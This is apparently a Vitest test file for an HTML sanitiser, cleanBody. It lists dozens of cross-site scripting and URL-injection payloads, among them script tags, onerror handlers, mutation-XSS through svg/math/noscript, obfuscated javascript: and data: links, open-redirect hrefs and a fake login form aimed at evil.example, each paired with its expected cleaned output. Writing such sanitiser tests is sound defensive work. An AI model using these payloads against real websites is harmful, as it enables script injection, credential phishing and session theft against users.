import { describe, expect, it } from 'vitest';
import { cleanBody } from './clean-body.ts';

/** Every allowed output tag, in its only allowed form. Everything else is text without angle brackets. */
const PLAIN = 'h2|h3|p|ul|ol|li|strong|em|code|table|thead|tbody|tr|th|td';
const LINK =
  '<a href="#/pages/[\\w/?=&%.;-]+">|<a href="https?://[^"<>\\s]+" rel="noopener noreferrer nofollow" target="_blank">';
const HARMLESS = new RegExp(`^(?:[^<>]|</?(?:${PLAIN})>|</a>|<br />|${LINK})*$`, 'i');

const OUT = 'rel="noopener noreferrer nofollow" target="_blank"';

const HOSTILE: readonly (readonly [html: string, cleaned: string])[] = [
  ['<p>a<script>alert(1)</script>b</p>', '<p>ab</p>'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
  ['<script>alert(1)', ''],
  ['<style>p{background:url(//evil.example)}</style><p>a</p>', '<p>a</p>'],
  ['<p style="position:fixed;inset:0" class="modal" id="app">a</p>', '<p>a</p>'],
  ['<p onclick="alert(1)" onpointerenter=alert(1)>a</p>', '<p>a</p>'],
  ['<p/onclick=alert(1)//>a', '<p>a</p>'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="https://evil.example/pixel.gif">a', 'a'],
  ['<svg/onload=alert(1)><p>a</p></svg>b', 'b'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
  ['<template><img src=x onerror=alert(1)></template>a', 'a'],
  ['<textarea><img src=x onerror=alert(1)></textarea>a', 'a'],
  ['<iframe src="javascript:alert(1)">a</iframe>b', 'b'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['<object data="data:text/html,<script>alert(1)</script>">a</object>b', 'b'],
  ['<embed src="//evil.example">a', 'a'],
  ['<base href="https://evil.example/">a', 'a'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">a', 'a'],
  ['<link rel="stylesheet" href="//evil.example/x.css">a', 'a'],
  ['<form action="https://evil.example"><input name="password"><button>Log in</button></form>', 'Log in'],
  ['<video src=x onerror=alert(1)></video><audio autoplay src=x></audio>', ''],
  ['<!-- a --><p>a</p><!--[if IE]><script>alert(1)</script><![endif]-->', '<p>a</p>'],
  ['<![CDATA[<script>alert(1)</script>]]>', ''],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['<a href="javascript:alert(1)">a</a>', 'a'],
  ['<a href="JaVaScRiPt:alert(1)">a</a>', 'a'],
  ['<a href=" javascript:alert(1)">a</a>', 'a'],
  ['<a href="java\tscript:alert(1)">a</a>', 'a'],
  ['<a href="java&#10;script:alert(1)">a</a>', 'a'],
  ['<a href="&#x6A;avascript&colon;alert(1)">a</a>', 'a'],
  ['<a href="vbscript:msgbox(1)">a</a>', 'a'],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>', 'a'],
  ['<a href="blob:https://evil.example/1">a</a>', 'a'],
  ['<a href="//evil.example">a</a>', 'a'],
  ['<a href="/\\evil.example">a</a>', 'a'],
  ['<a href="https:evil.example">a</a>', 'a'],
  ['<a href="https:\\\\evil.example">a</a>', 'a'],
  ['<a href="https://tidemark.example\\@evil.example">a</a>', 'a'],
  ['<a href="https://tidemark.example@evil.example">a</a>', 'a'],
  ['<a href="https://:tidemark.example@evil.example">a</a>', 'a'],
  ['<a href="https://">a</a>', 'a'],
  ['<a href="https://ev\til.example">a</a>', 'a'],
  ['<a href="mailto:a@evil.example">a</a>', 'a'],
  ['<a href="/api/user/logout">a</a>', 'a'],
  ['<a href="#">a</a>', 'a'],
  ['<a href="#/pages/a\njavascript:alert(1)">a</a>', 'a'],
  ['<a href="#/pages/common/webView?url=javascript:alert(1)">a</a>', 'a'],
  ['<a name="x" id="y">a</a>', 'a'],
  [
    '<a href="https://example.com" target="_top" rel="opener" onclick="alert(1)">a</a>',
    `<a href="https://example.com" ${OUT}>a</a>`,
  ],
  [
    '<a href=\'https://example.com/"onmouseover="alert(1)\'>a</a>',
    `<a href="https://example.com/&quot;onmouseover=&quot;alert(1)" ${OUT}>a</a>`,
  ],
  ['<p><a href="https://example.com">a', `<p><a href="https://example.com" ${OUT}>a</a></p>`],
];

describe('a hostile body', () => {
  it.each(HOSTILE)('given %j, when it is cleaned, then only harmless content remains', (html, cleaned) => {
    expect(cleanBody(html)).toBe(cleaned);
    expect(cleaned).toMatch(HARMLESS);
    expect(cleanBody(cleaned), 'cleaning what is clean changes nothing').toBe(cleaned);
  });

  it('given thousands of nested tags, when they are cleaned, then few tags and all of the text remain', () => {
    const cleaned = cleanBody(`${'<em>'.repeat(10_000)}a${'</em>'.repeat(10_000)}`);
    expect(cleaned).toMatch(/^(?:<em>){1,12}a(?:<\/em>){1,12}$/);
  });

  it('given hostile bodies nested in each other, when they are cleaned, then the result is harmless', () => {
    for (const [outer] of HOSTILE)
      for (const [inner] of HOSTILE) {
        const cleaned = cleanBody(outer.replace('a', () => inner) + inner);
        expect(cleaned, `${outer} and ${inner}`).toMatch(HARMLESS);
        expect(cleanBody(cleaned), `${outer} and ${inner}`).toBe(cleaned);
      }
  });
});

describe('an honest body', () => {
  it.each([
    '<h2>a</h2><h3>b</h3><p>c<br /><strong>d</strong> <em>e</em> <code>f</code></p>',
    '<ul><li>a</li></ul><ol><li>b</li></ol>',
    '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b &amp; c</td></tr></tbody></table>',
    '<p><a href="#/pages/setting/security">a</a> <a href="#/pages/common/article?id=4&amp;from=news">b</a></p>',
    `<p><a href="https://example.com/a?b=c&amp;d=e#f" ${OUT}>a</a></p>`,
  ])('given %j, when it is cleaned, then nothing changes', (html) => {
    expect(cleanBody(html)).toBe(html);
    expect(html).toMatch(HARMLESS);
  });
});
